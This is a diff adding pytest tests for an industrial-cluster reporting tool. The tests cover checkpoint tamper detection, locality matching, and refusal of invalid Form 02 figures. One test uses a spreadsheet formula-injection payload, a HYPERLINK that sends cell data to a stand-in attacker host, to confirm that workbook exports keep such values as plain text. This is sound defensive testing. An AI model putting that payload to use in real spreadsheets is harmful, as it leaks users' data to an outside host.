@@ -1,0 +1,225 @@
+"""Fixes from the review of issue 13: checkpoints of Form 02, safe workbooks, exact
+localities, figures that would be dropped, the Art. 8.1(c) test on exact values."""
+
+from __future__ import annotations
+
+import io
+import json
+from pathlib import Path
+
+import pytest
+from freezegun import freeze_time
+from openpyxl import load_workbook
+
+from ..conftest import FROZEN_NOW, Ccn, raw_sql
+from .test_form02 import ok, portfolio
+
+
+@pytest.fixture(autouse=True)
+def frozen():
+    with freeze_time(FROZEN_NOW):  # 02/03/2026
+        yield
+
+
+def record(ccn: Ccn, code: str, *args: str) -> None:
+    ok(ccn("indicators", "record", code, "--period", "2026H1", *args))
+
+
+def lines(ccn: Ccn, *args: str) -> tuple[int, list[str]]:
+    r = ccn("audit", "verify", *args)
+    return r.exit_code, r.stdout.splitlines()
+
+
+# 1. Form 02 records deleted behind the tool's back are found against a checkpoint.
+
+
+@pytest.mark.parametrize(
+    ("statement", "finding"),
+    [
+        ("DELETE FROM indicators",
+         "BROKEN Form 02: missing: no records left (checkpoint had seq 2)"),
+        ("DELETE FROM indicators WHERE seq = 2",
+         "BROKEN Form 02: cut short (checkpoint had seq 2, now 1): records were removed"),
+    ],
+)  # fmt: skip
+def test_deleted_form02_records_are_found_against_a_checkpoint(
+    ccn: Ccn, db_url: str, tmp_path: Path, statement: str, finding: str
+) -> None:
+    portfolio(ccn)
+    record(ccn, "HT1", "--leased-ha", "1")
+    record(ccn, "BS2", "--leased-ha", "2")
+    cp = tmp_path / "cp.json"
+    ok(ccn("audit", "checkpoint", "--out", str(cp)))
+    doc = json.loads(cp.read_text())
+    assert doc["format"] == "ccn-checkpoint/3"
+    assert doc["indicators"]["seq"] == 2
+    assert lines(ccn, "--against", str(cp))[0] == 0
+    raw_sql(db_url, statement, unlock=("indicators",))
+    assert lines(ccn, "--against", str(cp)) == (1, [finding])
+
+
+def test_a_checkpoint_whose_form02_head_was_edited_gives_itself_away(
+    ccn: Ccn, tmp_path: Path
+) -> None:
+    portfolio(ccn)
+    record(ccn, "HT1", "--leased-ha", "1")
+    cp = tmp_path / "cp.json"
+    ok(ccn("audit", "checkpoint", "--out", str(cp)))
+    doc = json.loads(cp.read_text())
+    doc["indicators"] = None
+    cp.write_text(json.dumps(doc))
+    altered = "BROKEN checkpoint: the file's heads do not match its root: it was altered"
+    assert lines(ccn, "--against", str(cp)) == (1, [altered])
+
+
+def test_a_format_2_checkpoint_still_verifies_the_clusters(ccn: Ccn, tmp_path: Path) -> None:
+    portfolio(ccn)
+    record(ccn, "HT1", "--leased-ha", "1")
+    cp = tmp_path / "cp.json"
+    ok(ccn("audit", "checkpoint", "--out", str(cp)))
+    doc = json.loads(cp.read_text())
+    del doc["indicators"]
+    doc["format"] = "ccn-checkpoint/2"
+    from workflow.checkpoints import root_of
+
+    doc["root"] = root_of((h["code"], h["seq"], h["hash"]) for h in doc["heads"])[0]
+    cp.write_text(json.dumps(doc))
+    assert lines(ccn, "--against", str(cp)) == (0, [
+        "OK: 2 clusters, 2 transitions verified",
+        "OK: 1 Form 02 indicator records verified",
+        f"OK: everything covered by {cp} is present and unchanged"])  # fmt: skip
+
+
+# 2. Text that looks like a formula stays text in every workbook.
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_text_starting_with_equals_is_never_a_formula_in_xlsx(ccn: Ccn, tmp_path: Path) -> None:
+    ok(ccn("cluster", "add", "FX", "--name", EVIL, "--locality", "=1+1", "--state",
+           "investment_approval", "--since", "2025-01-01", "--ref", "r"))  # fmt: skip
+    ok(ccn("indicators", "record", "FX", "--period", "2025", "--leased-ha", "1", "--note",
+           "=2+2"))  # fmt: skip
+    books = [
+        ccn("cluster", "list", "--format", "xlsx").stdout_bytes,
+        ccn("indicators", "list", "--format", "xlsx").stdout_bytes,
+        ccn("report", "circular14", "--period", "2026H1", "--format", "xlsx").stdout_bytes,
+    ]
+    seen = set()
+    for data in books:
+        wb = load_workbook(io.BytesIO(data))
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for c in row:
+                    assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+                    if isinstance(c.value, str) and c.value.startswith("="):
+                        seen.add(c.value)
+    assert seen == {EVIL, "=1+1", "=2+2"}
+
+
+# 3 and 10. Form 03 is for one locality, named whole; Form 04 takes none.
+
+
+def places(ccn: Ccn) -> None:
+    for code, place, area in (("A1", "Xã Một", "10"), ("A2", "Xã Hai", "20"),
+                              ("A3", "Cao Lộc", "40")):  # fmt: skip
+        ok(ccn("cluster", "add", code, "--name", f"Cụm {code}", "--locality", place,
+               "--area-ha", area, "--state", "investment_approval", "--since", "2025-01-01",
+               "--ref", "QĐ 1"))  # fmt: skip
+
+
+def form03_area(ccn: Ccn, locality: str) -> float:
+    r = ok(ccn("report", "circular14", "--period", "2026H1", "--form", "03", "--locality",
+               locality, "--format", "json"))  # fmt: skip
+    return {row["no"]: row["value"] for row in json.loads(r.stdout)}["2"]
+
+
+def test_form03_takes_the_whole_locality_name(ccn: Ccn) -> None:
+    places(ccn)
+    assert form03_area(ccn, "xã  một") == 10.0
+    assert form03_area(ccn, "XÃ HAI") == 20.0
+    for given, hint in (("Xã", "; did you mean 'Xã Hai', 'Xã Một'?"),
+                        ("Cao", "; did you mean 'Cao Lộc'?"), ("Nowhere", "")):  # fmt: skip
+        r = ccn("report", "circular14", "--period", "2026H1", "--form", "03", "--locality", given)
+        assert (r.exit_code, r.stdout, r.stderr) == (
+            1, "", f"Error: no cluster is in locality {given!r}{hint}\n")  # fmt: skip
+
+
+def test_form04_refuses_a_locality(ccn: Ccn) -> None:
+    places(ccn)
+    r = ccn("report", "circular14", "--period", "2026H1", "--locality", "Xã Một")
+    assert (r.exit_code, r.stdout, r.stderr) == (
+        1, "", "Error: form 04 is the whole province: for one locality ask for form 03 "
+        "(--form 03)\n")  # fmt: skip
+
+
+# 4 and Low. Figures no report would count are refused; those stored before are named.
+
+
+def test_form02_for_a_period_before_the_cluster_was_in_the_plan_is_refused(
+    ccn: Ccn, tmp_path: Path
+) -> None:
+    ok(ccn("cluster", "add", "Q", "--name", "Q", "--area-ha", "10"))  # today, 02/03/2026
+    r = ccn("indicators", "record", "Q", "--period", "2025", "--projects", "3")
+    assert (r.exit_code, r.stderr) == (1, (
+        "Error: Q was not in the plan by 14/12/2025, the end of 2025 (its history starts on "
+        "02/03/2026): no report for 2025 would count these figures\n"))  # fmt: skip
+    f = tmp_path / "f.csv"
+    f.write_text("code,period,projects\nQ,2025,3\n", encoding="utf-8")
+    r = ccn("indicators", "import", str(f))
+    assert r.exit_code == 1
+    assert r.stderr.splitlines()[0] == (
+        "line 2: Q was not in the plan by 14/12/2025, the end of 2025 (its history starts on "
+        "02/03/2026): no report for 2025 would count these figures"
+    )
+    record(ccn, "Q", "--projects", "3")  # 2026H1 ends after it entered the plan
+
+
+def test_figures_stored_before_the_refusal_are_named_by_the_report(
+    ccn: Ccn, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    ok(ccn("cluster", "add", "Q", "--name", "Q", "--area-ha", "10"))
+    import workflow.form02
+
+    monkeypatch.setattr(workflow.form02, "cluster_problem", lambda *a: None)  # an older ccn
+    ok(ccn("indicators", "record", "Q", "--period", "2025", "--projects", "3"))
+    r = ok(ccn("report", "circular14", "--period", "2025", "--format", "json"))
+    assert r.stderr == "Warning: Form 02 for Q ignored: Q was not in the plan by 14/12/2025\n"
+
+
+@pytest.mark.parametrize(
+    ("period", "error"),
+    [
+        ("2024H1", "2024H1 ended on 14/06/2024, before Circular 14/2024/TT-BCT took effect on "
+                   "01/10/2024: no Form 02 is due for it"),
+        ("2027H1", "2027H1 has not begun: its data period starts on 15/12/2026"),
+        ("2027", "2027 has not begun: its data period starts on 15/12/2026"),
+    ],
+)  # fmt: skip
+def test_form02_for_a_period_without_one_is_refused(ccn: Ccn, period: str, error: str) -> None:
+    ok(ccn("cluster", "add", "Q", "--name", "Q", "--since", "2023-01-01"))
+    r = ccn("indicators", "record", "Q", "--period", period, "--projects", "3")
+    assert (r.exit_code, r.stderr) == (1, f"Error: {error}\n")
+    ok(ccn("indicators", "record", "Q", "--period", "2024", "--projects", "3"))
+
+
+def test_form02_for_a_cluster_cancelled_before_the_period_is_refused(ccn: Ccn) -> None:
+    ok(ccn("cluster", "add", "Q", "--name", "Q", "--since", "2024-01-01"))
+    ok(ccn("cancel", "Q", "--on", "2025-03-01", "--ref", "QĐ 9", "--reason", "bỏ quy hoạch"))
+    r = ccn("indicators", "record", "Q", "--period", "2026H1", "--projects", "3")
+    assert (r.exit_code, r.stderr) == (
+        1, "Error: Q was cancelled before 2026H1 began on 15/12/2025\n")  # fmt: skip
+    ok(ccn("indicators", "record", "Q", "--period", "2025", "--projects", "3"))
+
+
+# 5. Industrial land can't shrink below the land a Form 02 says is leased.
+
+
+def test_cluster_edit_cannot_shrink_industrial_land_below_the_leased_land(ccn: Ccn) -> None:
+    portfolio(ccn)  # HT1: 40 ha of industrial land
+    record(ccn, "HT1", "--leased-ha", "30")
+    r = ccn("cluster", "edit", "HT1", "--industrial-land-ha", "20", "--reason", "QĐ 9")
+    assert (r.exit_code, r.stderr) == (1, "Error: HT1 2026H1: leased_ha 30 is more than the "
+                                       "cluster's industrial land 20 ha: correct that Form 02 "
+                                       "first\n")  # fmt: skip
+    ok(ccn("cluster", "edit", "HT1", "--industrial-land-ha", "30", "--reason", "QĐ 9"))
